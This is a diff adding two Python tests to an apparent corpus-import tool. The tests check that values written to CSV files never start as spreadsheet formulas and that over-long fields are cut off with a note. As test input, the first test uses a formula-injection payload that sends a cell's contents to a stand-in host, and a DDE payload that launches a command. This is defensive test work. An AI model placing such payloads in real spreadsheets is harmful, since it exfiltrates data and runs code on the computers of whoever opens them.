@@ -108,6 +108,33 @@ def test_attacks_become_plain_cells(tmp_path: Path) -> None:
     assert not list(tmp_path.glob("etc*"))
 
 
+def test_no_cell_is_a_formula_and_each_comes_back(tmp_path: Path) -> None:
+    title, outlet = '=HYPERLINK("http://val.example/?"&A1,"x")', "@SUM(1+1)*cmd|'/C calc'!A0"
+    path = tmp_path / "=1+1.jsonl"
+    lines(path, {"text": LONG, "title": title, "outlet": outlet, "published": "2020-03-03"})
+    taken(tmp_path, path)
+    # a second import writes the rows of the first once more
+    taken(tmp_path, lines(tmp_path / "b.jsonl", {"text": " ".join(OTHER), "title": "-1"}))
+    for name in ("articles.csv", "import.csv"):
+        with (tmp_path / "corpus" / name).open(encoding="utf-8", newline="") as file:
+            cells = [cell for row in csv.reader(file) for cell in row]
+        assert [cell for cell in cells if cell[:1] in tuple("=+-@")] == []
+    (first, second) = read_corpus(tmp_path / "corpus").articles.to_dict("records")
+    assert (first["title"], first["outlet"], second["title"]) == (title, outlet, "-1")
+
+
+def test_cells_that_no_page_could_hold_are_cut_off_and_told(tmp_path: Path) -> None:
+    address = "https://val.example/" + "a" * 9_000
+    rows, _ = taken(
+        tmp_path, lines(tmp_path / "a.jsonl", {"text": LONG, "title": "T" * 9_000, "url": address})
+    )
+    (article,) = read_corpus(tmp_path / "corpus").articles.to_dict("records")
+    assert article["title"] == "T" * 1_999 + "…"
+    assert not isinstance(article["address"], str)
+    assert "the title, of 9,000 characters, was cut off" in rows[0]["note"]
+    assert "the address, of 9,020 characters, was left out" in rows[0]["note"]
+
+
 def test_a_bibliography_completes_what_is_missing(tmp_path: Path) -> None:
     (tmp_path / "bib.bib").write_text(BIBTEX, encoding="utf-8")
     known = read_bibliography(tmp_path / "bib.bib")
